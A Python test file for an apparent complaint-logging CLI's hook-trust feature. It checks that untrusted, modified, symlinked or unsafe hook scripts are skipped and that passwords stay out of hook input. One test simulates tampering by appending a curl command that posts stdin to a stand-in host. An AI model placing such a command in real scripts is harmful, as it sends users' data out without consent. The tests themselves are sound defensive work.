"""`complog hooks [trust|untrust] [NAME…]`: a hook runs only once the person running
complog trusted it, for this logbook, as it is now (issue 18). The trust record is in
the person's config folder (XDG_CONFIG_HOME, a temp folder in every test)."""

from __future__ import annotations

import errno
import json
import os
import shlex
import stat
from pathlib import Path

import pytest

from tests.cli.test_hooks import RECORD, hook, received

#: most tests here are about hooks/ beside a logbook file; the last two run on both back ends
BESIDE = pytest.mark.sqlite_only(reason="hooks/ beside the logbook file")


@pytest.fixture
def hooks(logbook: Path) -> Path:
    return logbook.parent / "hooks"


def trust_file() -> Path:
    return Path(os.environ["XDG_CONFIG_HOME"]) / "complog" / "hooks-trust.json"


def states(run) -> dict[str, str]:
    return {h["hook"]: h["state"] for h in run("hooks", "--format", "json").json}


def skipped(logbook: Path, why: str) -> str:
    return (
        f"warning: hook on-add not run: {why}; the change is saved\n"
        f"  check it, then allow it: complog --db {logbook} hooks trust on-add\n"
    )


@BESIDE
def test_a_new_hook_is_skipped_with_the_line_that_trusts_it(run, hooks, logbook):
    run("init")
    path = hook(hooks, "on-add", RECORD.format(name="on-add"))
    ran = run("add", "Acme Newsagency", "Till")
    assert ran.stdout == "Logged complaint 1 for Acme Newsagency\n"
    assert ran.stderr == skipped(logbook, f"you have not trusted {path}")
    assert received(hooks, "on-add") == []
    trusted = run("hooks", "trust", "on-add")
    assert trusted.stdout.startswith(f"Trusted on-add: {path} (sha256 ")
    assert run("add", "Bell Books", "Card").stderr == ""
    assert [p["complaint"]["customer"] for p in received(hooks, "on-add")] == ["Bell Books"]


@BESIDE
def test_a_hook_changed_after_it_was_trusted_is_skipped_until_trusted_again(run, hooks, logbook):
    run("init")
    path = hook(hooks, "on-add", RECORD.format(name="on-add"))
    run("hooks", "trust", "on-add")
    path.write_text(RECORD.format(name="on-add") + "curl -d @- https://example.invalid\n")
    ran = run("add", "Acme Newsagency", "Till")
    assert ran.stderr == skipped(
        logbook, "its content changed since you trusted it (2026-11-23T09:00:00+00:00)"
    )
    assert states(run)["on-add"] == "changed"
    assert received(hooks, "on-add") == []
    run("hooks", "trust", "on-add")
    run("add", "Bell Books", "Card")
    assert len(received(hooks, "on-add")) == 1


@BESIDE
def test_a_hook_swapped_for_a_link_to_another_program_is_changed(run, hooks, tmp_path):
    run("init")
    path = hook(hooks, "on-add", RECORD.format(name="on-add"))
    run("hooks", "trust", "on-add")
    same_text = tmp_path / "elsewhere"
    same_text.write_text(path.read_text())
    same_text.chmod(0o755)
    path.unlink()
    path.symlink_to(same_text)
    [state] = [h for h in run("hooks", "--format", "json").json if h["hook"] == "on-add"]
    assert (state["state"], state["reason"]) == (
        "changed", f"it now runs {same_text}, not {path}"
    )  # fmt: skip
    assert "not run: it now runs" in run("add", "Acme Newsagency", "Till").stderr


@BESIDE
def test_a_trusted_symlinked_hook_runs(run, hooks, tmp_path):
    run("init")
    program = tmp_path / "notify"
    program.write_text(RECORD.format(name="on-add"))
    program.chmod(0o755)
    hooks.mkdir(mode=0o700)
    (hooks / "on-add").symlink_to(program)
    run("hooks", "trust", "on-add")
    [state] = [h for h in run("hooks", "--format", "json").json if h["hook"] == "on-add"]
    assert (state["state"], state["real_path"]) == ("trusted", str(program))
    run("add", "Acme Newsagency", "Till")
    assert len(received(hooks, "on-add")) == 1  # $0 is the link, as the user named it


@BESIDE
def test_a_hooks_dir_from_the_logbook_settings_is_not_run_until_trusted(run, tmp_path, logbook):
    folder = tmp_path / "team-hooks"
    run("config", "hooks_dir", str(folder))
    path = hook(folder, "on-add", RECORD.format(name="on-add"))
    ran = run("add", "Acme Newsagency", "Till")
    assert ran.stderr == skipped(
        logbook,
        f"the logbook's hooks_dir setting points to {folder}, and you have not trusted {path}",
    )
    run("hooks", "trust")
    run("add", "Bell Books", "Card")
    assert len(received(folder, "on-add")) == 1
    run("config", "hooks_dir", str(tmp_path / "other-hooks"))  # someone moves it...
    hook(tmp_path / "other-hooks", "on-add", RECORD.format(name="on-add"))
    assert f"not run: it now runs {tmp_path / 'other-hooks' / 'on-add'}, not {path}" in (
        run("add", "Cole Garage", "Till").stderr
    )
    assert received(tmp_path / "other-hooks", "on-add") == []  # ...and trust does not follow


@BESIDE
def test_trust_is_per_person(run, hooks, tmp_path):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    run("hooks", "trust", "on-add")
    someone_else = {"XDG_CONFIG_HOME": str(tmp_path / "their-config")}
    ran = run("add", "Acme Newsagency", "Till", env=someone_else)
    assert "hook on-add not run: you have not trusted" in ran.stderr
    assert received(hooks, "on-add") == []
    assert run("hooks", "--format", "json", env=someone_else).json[0]["state"] == "untrusted"


@BESIDE
def test_trust_is_kept_private_outside_the_logbook_folder(run, hooks, logbook):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    before = {p for p in logbook.parent.rglob("*") if not p.name.startswith("complog.db")}
    run("hooks", "trust")
    assert {p for p in logbook.parent.rglob("*") if not p.name.startswith("complog.db")} == before
    assert stat.S_IMODE(trust_file().stat().st_mode) == 0o600
    [entry] = json.loads(trust_file().read_text())["hooks"]
    assert (entry["logbook"], entry["hook"], entry["path"]) == (
        str(logbook), "on-add", str(hooks / "on-add"),
    )  # fmt: skip


@BESIDE
def test_a_trust_file_from_a_later_complog_runs_nothing_and_is_left_alone(run, hooks, logbook):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    run("hooks", "trust")
    later = trust_file().read_text().replace('"version": 1', '"version": 7')
    trust_file().write_text(later)
    ran = run("add", "Acme Newsagency", "Till")
    assert ran.stderr == (
        f"warning: hook on-add not run: {trust_file()} was written by a newer complog"
        " (format version 7); the change is saved\n"
        "  upgrade complog; this one leaves that file as it is and runs no hook\n"
    )
    assert received(hooks, "on-add") == []
    refused = run("hooks", "trust", exit=5)
    assert refused.stderr.startswith("complog: error: ")
    assert "written by a newer complog" in refused.stderr
    assert trust_file().read_text() == later


@BESIDE
def test_every_state_is_listed(run, hooks, tmp_path):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    hook(hooks, "on-kept", RECORD.format(name="on-kept"))
    run("hooks", "trust")
    (hooks / "on-kept").write_text("#!/bin/sh\nexit 0\n")
    hook(hooks, "on-promise", RECORD.format(name="on-promise"))
    hook(hooks, "on-resolve", RECORD.format(name="on-resolve"), mode=0o775)
    listed = run("hooks", "--format", "json").json
    assert [(h["hook"], h["state"]) for h in listed] == [
        ("on-add", "trusted"), ("on-promise", "untrusted"), ("on-kept", "changed"),
        ("on-escalate", "absent"), ("on-resolve", "refused"),
    ]  # fmt: skip
    assert listed[4]["reason"] == f"others may write to {hooks / 'on-resolve'} (chmod go-w it)"
    plain = run("hooks", "--format", "plain").stdout.splitlines()
    assert plain[0] == f"on-add\ttrusted\t{hooks / 'on-add'}\t"
    csv = run("hooks", "--format", "csv").stdout.splitlines()
    assert csv[0] == "hook,state,path,real_path,sha256,reason"


@BESIDE
def test_trusting_all_skips_hooks_that_may_not_run_and_says_why(run, hooks):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    kept = hook(hooks, "on-kept", RECORD.format(name="on-kept"), mode=0o644)  # switched off
    ran = run("hooks", "trust")
    assert ran.stderr == (
        f"warning: hook on-kept not trusted: it is not executable (chmod +x {kept})\n"
    )
    assert ran.stdout.startswith("Trusted on-add: ")
    assert states(run)["on-kept"] == "refused"


@BESIDE
def test_trusting_a_named_hook_that_may_not_run_is_refused(run, hooks):
    run("init")
    path = hook(hooks, "on-add", RECORD.format(name="on-add"), mode=0o644)
    ran = run("hooks", "trust", "on-add", exit=4)
    assert ran.stderr == (
        f"complog: error: hook on-add cannot be trusted: it is not executable (chmod +x {path})\n"
    )
    assert not trust_file().exists()


@BESIDE
@pytest.mark.parametrize("make", [os.mkdir, os.mkfifo], ids=["folder", "fifo"])
def test_a_hook_that_is_not_a_file_is_refused(run, hooks, make):
    run("init")
    hooks.mkdir(mode=0o700)
    make(hooks / "on-add", 0o700)
    ran = run("add", "Acme Newsagency", "Till")
    assert ran.stderr == (
        f"warning: hook on-add not run: it is not a file: {hooks / 'on-add'}; the change is saved\n"
    )
    run("hooks", "trust", "on-add", exit=4)


@BESIDE
@pytest.mark.parametrize("loop", ["itself", "each-other"])
def test_a_hook_that_is_a_symlink_loop_is_refused_not_a_crash(run, hooks, loop):
    """Path.resolve() raises RuntimeError on a loop: once an "unexpected RuntimeError",
    exit 1 after the change was saved, and `complog hooks` could not list anything."""
    run("init")
    hooks.mkdir(mode=0o700)
    if loop == "itself":
        (hooks / "on-add").symlink_to("on-add")
    else:
        (hooks / "on-add").symlink_to("other")
        (hooks / "other").symlink_to("on-add")
    why = f"it cannot be checked ({os.strerror(errno.ELOOP)})"
    ran = run("add", "Acme Newsagency", "Till")
    assert ran.stdout == "Logged complaint 1 for Acme Newsagency\n"
    assert ran.stderr == f"warning: hook on-add not run: {why}; the change is saved\n"
    [state] = [h for h in run("hooks", "--format", "json").json if h["hook"] == "on-add"]
    assert (state["state"], state["reason"]) == ("refused", why)
    assert run("hooks", "trust", "on-add", exit=4).stderr == (
        f"complog: error: hook on-add cannot be trusted: {why}\n"
    )
    assert not trust_file().exists()


@BESIDE
def test_trust_names_are_checked(run, hooks):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    assert run("hooks", "trust", "on-ad", exit=2).stderr == (
        "complog: error: there is no hook called 'on-ad'\n"
        "  hooks are on-add, on-promise, on-kept, on-escalate, on-resolve\n"
    )
    assert run("hooks", "trust", "on-kept", exit=3).stderr == (
        f"complog: error: no hook on-kept in {hooks}\n"
        f"  put executables named on-add, on-promise, on-kept, on-escalate, on-resolve in {hooks}\n"
    )
    assert run("hooks", "allow", exit=2).stderr.startswith(
        "complog: error: unknown hooks action 'allow'\n"
    )
    assert run("hooks", "on-add", "on-kept", exit=2).stderr == (
        "complog: error: unknown hooks action 'on-add'\n"
        "  the action comes first: complog hooks trust on-add on-kept (or untrust)\n"
    )
    assert not trust_file().exists()


@BESIDE
def test_trusting_an_empty_folder_says_where_hooks_go(run, logbook):
    run("init")
    folder = logbook.parent / "hooks"
    ran = run("hooks", "trust", exit=3)
    assert ran.stderr.startswith(f"complog: error: no hooks in {folder}\n")


@BESIDE
def test_untrust_stops_a_hook(run, hooks):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    hook(hooks, "on-kept", RECORD.format(name="on-kept"))
    run("hooks", "trust")
    ran = run("hooks", "untrust", "on-add")
    assert ran.stdout == "Untrusted on-add: it no longer runs until trusted again\n"
    assert "hook on-add not run: you have not trusted" in run("add", "Acme", "Till").stderr
    assert received(hooks, "on-add") == []
    assert run("hooks", "untrust", "on-add").stderr == "on-add was not trusted\n"
    assert run("hooks", "untrust", "--format", "json").json == [
        {"hook": "on-kept", "untrusted": True}
    ]
    assert set(states(run).values()) == {"untrusted", "absent"}


@BESIDE
def test_trust_reaches_the_same_logbook_by_any_path(run, hooks, logbook, tmp_path):
    run("init")
    hook(hooks, "on-add", RECORD.format(name="on-add"))
    link = tmp_path / "link-to-logbook"
    link.symlink_to(logbook.parent)
    run("--db", str(link / "complog.db"), "hooks", "trust")
    run("add", "Acme Newsagency", "Till")
    assert len(received(hooks, "on-add")) == 1


def test_hooks_dir_on_either_back_end(run, tmp_path, backend):
    folder = tmp_path / "team-hooks"
    run("config", "hooks_dir", str(folder))
    hook(folder, "on-add", RECORD.format(name="on-add"))
    skipped_line = run("add", "Acme Newsagency", "Till").stderr.splitlines()[-1]
    line = skipped_line.removeprefix("  check it, then allow it: ")
    assert shlex.split(line)[0] == "complog"
    if backend == "postgres":  # the URL (with its password) is in COMPLOG_DB: never printed
        assert line == "complog hooks trust on-add"
    run(*shlex.split(line)[1:])  # the line printed is the line that works
    run("add", "Bell Books", "Card")
    assert [p["complaint"]["customer"] for p in received(folder, "on-add")] == ["Bell Books"]


def test_a_postgres_logbook_without_hooks_dir_has_no_hooks_folder(postgres_logbook, run):
    ran = run("hooks", exit=2)
    assert ran.stderr == (
        "complog: error: a PostgreSQL logbook has no hooks folder beside it\n"
        "  name one for everyone: complog config hooks_dir ~/complog-hooks\n"
    )


def test_one_batch_per_command_and_one_skip_line_on_either_back_end(run, tmp_path, backend):
    """Issue 18 item 5 and "says once", where the events come from a server's commit too:
    an untrusted hook is named once however many events the command made, a trusted one
    starts once with all of them, and neither changes escalate --auto --exit-code's 1."""
    folder = tmp_path / "team-hooks"
    run("config", "hooks_dir", str(folder))
    hook(folder, "on-escalate", "#!/bin/sh\n"
         'echo "$COMPLOG_HOOK_EVENTS" >> "$(dirname "$0")/starts"\n'
         'cat >> "$(dirname "$0")/on-escalate.jsonl"\nexit 3\n')  # fmt: skip

    def overdue(customers: range) -> None:
        for n in customers:
            run("add", f"Customer {n}", "Till", "--at", "2026-11-16 09:00",
                "--promise", "Call back", "--due", "2026-11-16 12:00")  # fmt: skip

    overdue(range(3))
    ran = run("escalate", "--auto", "--exit-code", "--format", "json", exit=1)
    assert len(ran.json) >= 3
    [skip] = [line for line in ran.stderr.splitlines() if "not run" in line]
    assert skip.startswith("warning: hook on-escalate not run: the logbook's hooks_dir setting")
    assert not (folder / "starts").exists()

    run("hooks", "trust", "on-escalate")
    overdue(range(3, 7))
    ran = run("escalate", "--auto", "--exit-code", "--format", "json", exit=1)
    assert ran.stderr == "warning: hook on-escalate failed (exit 3); the change is saved\n"
    assert len(ran.json) >= 4
    assert (folder / "starts").read_text() == f"{len(ran.json)}\n"  # one process, all events
    assert [p["event"]["entity_id"] for p in received(folder, "on-escalate")] == [
        e["id"] for e in ran.json
    ]


def test_a_hook_reads_the_logbook_without_its_password(run, tmp_path, logbook, backend):
    """Hooks post their input to chat: the `logbook` of each line once carried the
    server URL with its password. COMPLOG_DB keeps the full URL, so that `complog`
    inside the hook still reaches the same logbook."""
    folder = tmp_path / "team-hooks"
    run("config", "hooks_dir", str(folder))
    hook(folder, "on-add", RECORD.format(name="on-add") + 'printf %s "$COMPLOG_DB" > "$0.db"\n')
    run("hooks", "trust", "on-add")
    run("add", "Acme Newsagency", "Till")
    [payload] = received(folder, "on-add")
    if backend == "postgres":
        password = str(logbook).split("://", 1)[1].split("@", 1)[0].split(":", 1)[1]
        assert password and password not in payload["logbook"]
        assert payload["logbook"] == str(logbook).replace(f":{password}@", "@")
    else:
        assert payload["logbook"] == str(logbook)
    assert (folder / "on-add.db").read_text() == str(logbook)
